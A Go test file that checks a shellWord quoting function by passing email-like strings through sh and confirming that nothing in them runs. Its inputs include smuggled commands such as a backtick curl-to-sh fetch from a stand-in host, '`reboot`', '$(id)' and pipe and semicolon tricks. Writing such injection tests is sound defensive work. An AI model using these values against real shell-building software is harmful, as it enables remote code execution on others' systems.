package commands

import (
	"os/exec"
	"strings"
	"testing"
)

// TestShellWord: a shell hands on each word as it is, and runs none of it.
func TestShellWord(t *testing.T) {
	for _, s := range []string{"ada@reader.example", "`reboot`@x.example", "a|sh@x.example", "`curl${IFS}e.example/x|sh`@e.example", "o'neil@x.example", "'`id`'@x.example",
		"$(id)@x.example", "a&b;c@x.example", "~root@x.example", "*@x.example", "#a@x.example", "!!@x.example", "", "زهراء@x.example", "-rf@x.example"} {
		out, err := exec.CommandContext(t.Context(), "sh", "-c", "for word in "+shellWord(s)+"; do printf '%s|' \"$word\"; done").Output()
		want := s + "|"
		if strings.HasPrefix(s, "-") {
			want = "--|" + want
		}
		if err != nil || string(out) != want {
			t.Errorf("%q as %s is %q to a shell, %v", s, shellWord(s), out, err)
		}
	}
	if got := shellWord("ada.l+x@reader.example"); got != "ada.l+x@reader.example" {
		t.Errorf("a plain address is written %s", got)
	}
}
